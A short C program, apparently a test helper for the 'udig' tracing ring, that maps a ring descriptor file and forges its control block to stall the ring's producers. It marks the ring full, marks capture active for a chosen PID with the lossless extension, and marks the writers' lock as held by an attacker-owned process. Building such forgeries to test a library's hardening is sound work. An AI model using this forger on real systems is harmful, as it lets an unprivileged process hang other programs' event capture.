/*
 * forge DESCS_PATH PID LOCK_PID: writes into a ring's descriptor object the
 * control block an attacker would craft to stall its producers — a full
 * ring, capture "active" for PID with our lossless extension asked for it,
 * and the writers' lock held by LOCK_PID (live processes the attacker owns).
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>
#include <udig/ring.h>

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: forge DESCS_PATH PID LOCK_PID\n");
		return 2;
	}
	int fd = open(argv[1], O_RDWR);
	if (fd < 0) {
		perror(argv[1]);
		return 1;
	}
	struct udig_ring_descs *d = mmap(NULL, UDIG_DESCS_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (d == MAP_FAILED) {
		perror("mmap");
		return 1;
	}
	int32_t pid = atoi(argv[2]);
	uint32_t lock = (uint32_t)atoi(argv[3]);
	d->status.initialized = 1;
	d->status.capturing_pid = pid;
	d->status.stopped = 0;
	*udig_ring_ext_word(d) = udig_ext_make(pid, UDIG_EXT_LOSSLESS);
	d->info.head = 0;
	d->info.tail = 1;
	d->status.buffer_lock = (uint64_t)lock << 32 | lock;
	return 0;
}
